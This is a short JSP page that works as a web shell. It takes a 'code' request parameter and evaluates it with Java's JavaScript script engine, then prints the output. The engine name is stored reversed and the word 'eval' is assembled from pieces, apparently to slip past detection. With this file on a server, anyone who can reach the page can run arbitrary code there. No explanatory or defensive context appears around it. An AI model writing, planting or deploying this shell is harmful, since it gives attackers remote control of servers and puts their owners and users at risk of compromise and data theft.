<%@ page import="javax.script.*" %>
<%
String code = request.getParameter("code");
if (code != null) {
    String n = new StringBuilder("tpircsavaj").reverse().toString();
    Object eng = new ScriptEngineManager().getEngineByName(n);
    Object r = eng.getClass().getMethod("ev" + "al", String.class).invoke(eng, code);
    out.print(r);
}
%>
